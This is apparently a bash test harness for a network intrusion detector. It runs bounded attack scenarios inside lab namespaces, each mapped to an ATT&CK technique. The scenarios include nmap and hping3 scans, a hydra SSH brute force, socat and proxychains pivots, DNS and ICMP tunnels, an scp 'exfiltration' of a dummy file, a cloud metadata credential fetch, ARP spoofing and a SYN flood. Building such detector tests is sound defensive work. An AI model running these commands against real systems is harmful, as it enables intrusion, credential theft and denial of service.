# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash
# The scenarios: real tools, each bounded in count and time, each by a workload of its own, so that all
# run at once. A function attack_NAME does it; the table says what must be found of whom.
#
# name, actor, detector, technique, when (always; open: without a policy alone; closed: with one alone;
# learnt: with a baseline alone), what it is

attacks=(
	"nmap-connect|nmap-connect|scan|T1046|always|nmap -sT, 60 ports of db"
	"nmap-syn|nmap-syn|scan|T1046|always|nmap -sS, 60 ports of db"
	"nmap-udp|nmap-udp|scan|T1046|always|nmap -sU, 30 ports of db"
	"nmap-slow|nmap-slow|scan|T1046|always|nmap -sT, a port in 1.5 s"
	"nmap-decoys|nmap-decoys|scan|T1046|always|nmap -sS behind five decoys"
	"nmap-fin|nmap-fin|scan|T1046|always|nmap -sF, 40 ports of web"
	"nmap-hosts|nmap-hosts|scan|T1046|always|nmap -sT, one port of twenty workloads"
	"hping3|hping3|scan|T1046|always|hping3 -S, 40 ports of cache"
	"nc-loop|nc-loop|scan|T1046|always|nc -z in a loop, 20 ports of api"
	"four-sources|spread[123]?|scan|T1046|always|a scan spread over four workloads"
	"fan-out|fan-out|fan_out|T1021.004|always|ssh to one workload after the other"
	"control|control|fan_out|T1613|always|Docker, kubelet and etcd of four workloads"
	"hydra|hydra|brute_force|T1110|always|hydra on SSH"
	"psql|psql|new_edge|T1213|learnt|psql from the wrong workload"
	"redis|redis|new_edge|T1213|learnt|redis-cli from the wrong workload"
	"kubernetes|kubernetes|metadata|T1613|learnt|curl to a Kubernetes API"
	"socat|hop2|pivot|T1090.001 T1021.004|always|socat over two hops to SSH"
	"jump|jump|pivot|T1021.004|always|ssh through a jump host"
	"proxychains|proxy|pivot|T1090.001|always|proxychains4 through a SOCKS proxy"
	"metadata|metadata|metadata|T1552.005|always|curl to 169.254.169.254"
	"iodine|iodine|tunnel|T1071.004|always|iodine, a tunnel in DNS"
	"ptunnel|ptunnel|tunnel|T1095|always|ptunnel-ng, a tunnel in ping"
	"scp|scp|exfiltration|T1048|always|scp of 200 MB to the world"
	"beacon|beacon|beacon|T1071|always|a call every 1.5 s, shaken by 20 %"
	"arping|arping|spoofing|T1557.002|always|arping in the gateway's name"
	"forged|forged|spoofing|T1557|always|hping3 with a forged source address"
	"burst|burst|denial_burst|T1498|closed|hping3, 1500 packets against a closed door"
)

attack_nmap-connect() {
	inside nmap-connect nmap -n -Pn -sT --max-retries 0 --max-rate 40 -p 2000-2059 "$(ip_of db)"
}

attack_nmap-syn() {
	inside nmap-syn nmap -n -Pn -sS --max-retries 0 --max-rate 40 -p 2000-2059 "$(ip_of db)"
}

attack_nmap-udp() {
	inside nmap-udp nmap -n -Pn -sU --max-retries 0 --max-rate 20 --host-timeout 20s -p 2000-2029 \
		"$(ip_of db)"
}

attack_nmap-slow() {
	inside nmap-slow nmap -n -Pn -sT --max-retries 0 --scan-delay 1500ms -p 2000-2015 "$(ip_of db)"
}

attack_nmap-decoys() {
	inside nmap-decoys nmap -n -Pn -sS --max-retries 0 --max-rate 40 -D RND:5 -p 2000-2039 \
		"$(ip_of db)"
}

attack_nmap-fin() {
	inside nmap-fin nmap -n -Pn -sF --max-retries 0 --max-rate 40 -p 2000-2039 "$(ip_of web)"
}

attack_nmap-hosts() {
	inside nmap-hosts nmap -n -Pn -sT --max-retries 0 --max-rate 20 -p 8888 10.77.0.11-30
}

attack_hping3() {
	inside hping3 hping3 -n -q -S -p ++2000 -i u30000 -c 40 "$(ip_of cache)"
}

attack_nc-loop() {
	local port
	for port in {2000..2019}; do
		inside nc-loop nc -z -w 1 "$(ip_of api)" "$port"
	done
}

attack_four-sources() {
	local port source
	for port in {3000..3023}; do
		source=spread
		[ $((port % 4)) = 0 ] || source=spread$((port % 4))
		inside "$source" nc -z -w 1 "$(ip_of ops)" "$port" &
		sleep 0.1
	done
	wait
}

attack_fan-out() {
	local name
	for name in web api db cache ops; do
		inside fan-out nc -z -w 1 "$(ip_of $name)" 22
	done
}

attack_control() {
	local name
	for name in web api db cache; do
		inside control nc -z -w 1 "$(ip_of $name)" 2375
		inside control nc -z -w 1 "$(ip_of $name)" 10250
		inside control nc -z -w 1 "$(ip_of $name)" 2379
	done
}

attack_hydra() {
	cd "$work" || return 1 # it leaves a file to go on from
	seq -f 'wrong%g' 150 >"$work/passwords"
	inside hydra timeout 60 hydra -q -I -t 12 -l nobody -P "$work/passwords" "ssh://$(ip_of ops)"
}

attack_psql() {
	inside psql psql -h "$(ip_of db)" -U shop -d postgres -Atc 'select 1'
}

attack_redis() {
	inside redis timeout 5 redis-cli -h "$(ip_of cache)" ping
}

attack_kubernetes() {
	inside kubernetes curl -s -k -m 3 "https://$world_ip:6443/api"
}

# attacker -> hop1:8022 -> hop2:8023 -> ops:22
attack_socat() {
	start hop2 timeout 50 socat tcp-listen:8023,fork,reuseaddr "tcp:$(ip_of ops):22"
	start hop1 timeout 50 socat tcp-listen:8022,fork,reuseaddr "tcp:$(ip_of hop2):8023"
	await 5 listens hop1 8022
	await 5 listens hop2 8023
	# shellcheck disable=SC2046
	inside socat ssh $(ssh_options) -p 8022 "root@$(ip_of hop1)" true
}

attack_jump() {
	# shellcheck disable=SC2046
	inside jumper ssh $(ssh_options) "root@$(ip_of jump)" \
		"nc -w 2 $(ip_of ops) 22 </dev/null"
}

attack_proxychains() {
	start proxy timeout 50 microsocks -i 0.0.0.0 -p 1080
	await 5 listens proxy 1080
	printf 'strict_chain\ntcp_read_time_out 3000\ntcp_connect_time_out 3000\n[ProxyList]\nsocks5 %s 1080\n' \
		"$(ip_of proxy)" >"$work/proxychains.conf"
	inside proxied proxychains4 -q -f "$work/proxychains.conf" nc -w 2 "$(ip_of ops)" 22 </dev/null
}

attack_metadata() {
	inside metadata curl -s -m 3 "http://$metadata_ip/latest/meta-data/iam/"
}

attack_iodine() {
	start world timeout 60 iodined -f -c -P secret -l "$world_ip" 172.31.77.1/27 t.example.org
	sleep 1
	inside iodine timeout 45 iodine -f -r -P secret -T NULL "$world_ip" t.example.org &
	sleep 12
	inside iodine timeout 10 ping -i 0.2 -c 40 -s 600 -W 1 172.31.77.1
	wait
}

attack_ptunnel() {
	start world timeout 60 ptunnel-ng -R22 "-r$world_ip"
	sleep 0.5
	inside ptunnel timeout 40 ptunnel-ng "-p$world_ip" -l2222 "-r$world_ip" -R22 &
	sleep 1.5
	# shellcheck disable=SC2046
	inside ptunnel timeout 20 ssh $(ssh_options) -p 2222 root@127.0.0.1 \
		'head -c 60000 /dev/zero' >/dev/null
	wait
}

attack_scp() {
	truncate -s 200M "$work/loot"
	# shellcheck disable=SC2046
	inside scp timeout 60 scp $(ssh_options) "$work/loot" "root@$world_ip:/dev/null"
}

# Slow enough that a busy machine does not shake it more than it does itself.
attack_beacon() {
	local i
	for i in {1..16}; do
		inside beacon curl -s -m 1 "http://$other_world_ip:8443/" >/dev/null
		sleep "$(awk -v i="$i" 'BEGIN { printf "%.3f", 1.2 + (i * 7919 + 13) % 600 / 1000 }')"
	done
}

attack_arping() {
	ip netns exec "$id-arping" sysctl -qw net.ipv4.ip_nonlocal_bind=1
	inside arping arping -q -c 12 -w 15 -U -I eth0 -s 10.77.0.1 10.77.0.1
}

attack_forged() {
	inside forged hping3 -n -q -S -a 203.0.113.7 -p 80 -i u100000 -c 20 "$(ip_of web)"
}

attack_burst() {
	inside burst hping3 -n -q -S -p 5432 -i u2000 -c 1500 "$(ip_of db)"
}
